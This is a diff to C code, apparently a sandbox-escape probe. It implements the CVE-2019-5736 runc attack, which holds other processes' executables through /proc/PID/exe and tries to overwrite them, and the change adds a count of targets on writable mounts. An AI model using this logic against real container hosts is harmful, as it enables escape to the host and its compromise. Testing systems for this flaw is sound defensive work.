@@ -15,6 +15,7 @@
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/statvfs.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/un.h>
@@ -32,7 +33,7 @@ static int open_for_writing(const char *path) { return say("OPENED", open(path, 
 // Watches for programs that appear among the processes, takes hold of their files through /proc/PID/exe and tries to
 // write them once they are not busy any more (CVE-2019-5736). Ends when the file `stop` is there.
 static int overwrite(const char *stop) {
-    int held[256], count = 0, written = 0, seen = 0;
+    int held[256], count = 0, written = 0, writable = 0;
     printf("WATCHING\n");
     fflush(stdout);
     while (access(stop, F_OK) != 0) {
@@ -46,10 +47,13 @@ static int overwrite(const char *stop) {
             if (length < 0) continue;
             target[length] = 0;
             // The container's own programs are no prey.
-            if (!strstr(target, "spyhop") && !strstr(target, "memfd")) continue;
-            seen++;
+            if (!strncmp(target, "/bin/", 5) || !strncmp(target, "/attacker", 9)) continue;
             int file = open(path, O_PATH);
-            if (file >= 0) held[count++] = file;
+            struct statvfs facts;
+            if (file < 0) continue;
+            // A file that runs cannot be written anyway; it is the mount that counts once it does not.
+            if (fstatvfs(file, &facts) == 0 && !(facts.f_flag & ST_RDONLY)) writable++;
+            held[count++] = file;
         }
         if (all) closedir(all);
         for (int i = 0; i < count; i++) {
@@ -62,7 +66,8 @@ static int overwrite(const char *stop) {
             }
         }
     }
-    printf("seen %d\n", seen);
+    printf("HELD %d\n", count);
+    printf("WRITABLE %d\n", writable);
     printf("WRITTEN %d\n", written);
     return 0;
 }
